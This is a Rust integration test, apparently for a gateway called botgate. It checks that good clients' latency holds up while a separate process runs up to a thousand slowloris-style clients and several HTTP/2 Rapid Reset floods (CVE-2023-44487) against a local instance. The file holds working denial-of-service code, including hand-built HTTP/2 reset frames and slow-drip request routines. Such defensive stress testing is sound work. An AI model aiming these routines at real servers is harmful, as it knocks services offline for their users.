//! A thousand slow clients and a flood of HTTP/2 frames, and what a good client notices of them.
//!
//! `BOTGATE_ATTACKERS` says how many slow clients (150 unless set); `tests/run crowd` takes 1,000. They run in a process of
//! their own, at the lowest priority, so that on a machine of few cores it is botgate's share of the work that is measured.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
use std::time::Duration;

use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use super::child::{Role, say, size, told, until_released};
use super::support::backend::Backend;
use super::support::site::{HOST, PROBE, Site};
use super::support::tls::client_of;
use super::support::wait::alone;
use super::support::{Gateway, Load, Outcome, Report};

/// What a slow reader asks for.
const LARGE: usize = 512 * 1024;
/// Connections that flood, at once.
const FLOODS: usize = 4;
/// Below this a ratio says more about the machine than about botgate.
const FLOOR: Duration = Duration::from_millis(2);

async fn load(site: &Site, gateway: &Gateway, span: Duration) -> Report {
    let mut load = Load::new(site, gateway.address());
    (load.rate, load.connections) = (200, 16);
    let load = load.start();
    tokio::time::sleep(span).await;
    load.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_good_client_hardly_notices_slow_clients_and_a_flood() -> Outcome<()> {
    let _machine = alone().await;
    let attackers = size("BOTGATE_ATTACKERS", 150);
    let span = Duration::from_secs(if attackers < 500 { 8 } else { 30 });
    let site = Site::new();
    let backend = Backend::start("one").await;
    // As README has it, but for what is counted per address: the attackers come from few.
    let gateway = Gateway::start(&site, &site.config(PROBE, &[&backend])).await;
    drop(load(&site, &gateway, Duration::from_secs(2)).await);
    let quiet = load(&site, &gateway, span).await;
    let before = gateway.process.resident_kib();
    let told = vec![
        ("TARGET", gateway.address().to_string()),
        ("CA", site.text_path("ca.pem")),
        ("COUNT", attackers.to_string()),
    ];
    let mut role = Role::start("attack::attacker", &told);
    assert_eq!(role.said("attacking"), attackers);
    let under_attack = load(&site, &gateway, span).await;
    let held = gateway.process.resident_kib();
    let open = gateway.metric("botgate_connections", &["side=\"client\""]).await;
    role.release();
    let (resets, streams) = (role.said("resets"), role.said("connections"));
    let slow = gateway.metric("botgate_slow_readers_total", &[]).await;
    drop(role);
    let again = load(&site, &gateway, span).await;
    println!("\n{attackers} slow clients and {FLOODS} floods; {open} connections open, RSS {before} -> {held} KiB");
    println!("{resets} streams were reset over {streams} connections; {slow} slow readers were cut");
    for (what, report) in [("quiet", &quiet), ("under attack", &under_attack), ("quiet again", &again)] {
        let [half, most] = [0.5, 0.99].map(|share| report.percentile(share));
        println!(
            "{what:<14} {:>6} requests, {:>3} failed, p50 {half:?}, p99 {most:?}",
            report.total(),
            report.failed()
        );
    }
    assert_eq!(under_attack.failed(), 0, "{:?}", under_attack.errors);
    // The slower of both: what else runs on the machine is no attack.
    let calm = quiet.percentile(0.99).max(again.percentile(0.99)).max(FLOOR);
    let busy = under_attack.percentile(0.99);
    assert!(busy <= 2 * calm, "p99 {busy:?} under attack, {calm:?} without");
    assert!(resets > 0 && open >= attackers as f64 / 2.0, "nobody attacked");
    Ok(())
}

/// Attacks until it is released.
#[tokio::test(flavor = "current_thread")]
#[ignore = "a role: only the test of this file starts it"]
async fn attacker() -> Outcome<()> {
    let Some(target) = told("TARGET") else { return Ok(()) };
    let (target, count): (SocketAddr, usize) = (target.parse()?, told("COUNT").unwrap().parse()?);
    let ca = told("CA").unwrap();
    let (h1, h2) = (client_of(&ca, &[b"http/1.1"]), client_of(&ca, &[b"h2"]));
    let (begun, resets, floods) =
        (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
    for number in 0..count {
        let (tls, begun) = (h1.clone(), begun.clone());
        let from = IpAddr::from([127, 0, 2, (number % 200) as u8 + 1]);
        tokio::spawn(async move {
            // They come one after the other, and again and again.
            tokio::time::sleep(Duration::from_millis(number as u64 * 4)).await;
            let mut first = true;
            loop {
                if let Ok(io) = connect(target, from, tls.clone(), number % 3 == 2).await {
                    begun.fetch_add(usize::from(std::mem::take(&mut first)), Relaxed);
                    let _ = match number % 3 {
                        0 => drip(io, "GET / HTTP/1.1\r\nhost: bot.test\r\n", "x-slow: 1\r\n").await,
                        1 => {
                            drip(io, "POST / HTTP/1.1\r\nhost: bot.test\r\ncontent-length: 1000000\r\n\r\n", "x").await
                        }
                        _ => read_slowly(io).await,
                    };
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        });
    }
    while begun.load(Relaxed) < count {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    for number in 0..FLOODS {
        let (tls, resets, floods) = (h2.clone(), resets.clone(), floods.clone());
        let from = IpAddr::from([127, 0, 3, number as u8 + 1]);
        tokio::spawn(async move {
            loop {
                if let Ok(io) = connect(target, from, tls.clone(), false).await {
                    floods.fetch_add(1, Relaxed);
                    let _ = flood(io, &resets).await;
                }
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        });
    }
    say("attacking", count);
    until_released().await;
    say("resets", resets.load(Relaxed));
    say("connections", floods.load(Relaxed));
    Ok(())
}

async fn connect(
    target: SocketAddr,
    from: IpAddr,
    tls: Arc<rustls::ClientConfig>,
    small_window: bool,
) -> Outcome<TlsStream<TcpStream>> {
    let socket = TcpSocket::new_v4()?;
    if small_window {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.set_reuseaddr(true)?;
    socket.bind((from, 0).into())?;
    Ok(TlsConnector::from(tls).connect(ServerName::try_from(HOST)?, socket.connect(target).await?).await?)
}

/// Sends the beginning of a request, and then a little of the rest each second.
async fn drip(mut io: TlsStream<TcpStream>, begin: &str, drop: &str) -> std::io::Result<()> {
    io.write_all(begin.as_bytes()).await?;
    loop {
        io.write_all(drop.as_bytes()).await?;
        io.flush().await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// Asks for a large answer, and reads a few bytes of it each second.
async fn read_slowly(mut io: TlsStream<TcpStream>) -> std::io::Result<()> {
    let head = format!("POST / HTTP/1.1\r\nhost: bot.test\r\ncontent-length: {LARGE}\r\n\r\n");
    io.write_all(head.as_bytes()).await?;
    io.write_all(&vec![b'x'; LARGE]).await?;
    let mut few = [0; 32];
    while io.read(&mut few).await? > 0 {
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Opens streams and resets them at once (CVE-2023-44487), as fast as they are taken.
async fn flood(mut io: TlsStream<TcpStream>, resets: &AtomicUsize) -> std::io::Result<()> {
    io.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
    // :method GET, :scheme https and :path / by index, :authority as a literal.
    let block = [&[0x82, 0x87, 0x84, 0x01, HOST.len() as u8][..], HOST.as_bytes()].concat();
    for batch in 0_u32.. {
        let mut frames = Vec::new();
        for number in 0..50 {
            let stream = ((batch * 50 + number) * 2 + 1).to_be_bytes();
            // HEADERS with END_HEADERS and END_STREAM; RST_STREAM with CANCEL.
            frames.extend([0, 0, block.len() as u8, 1, 5].iter().chain(&stream).chain(&block));
            frames.extend([0, 0, 4, 3, 0].iter().chain(&stream).chain(&[0, 0, 0, 8]));
        }
        io.write_all(&frames).await?;
        io.flush().await?;
        resets.fetch_add(50, Relaxed);
        tokio::task::yield_now().await;
    }
    Ok(())
}
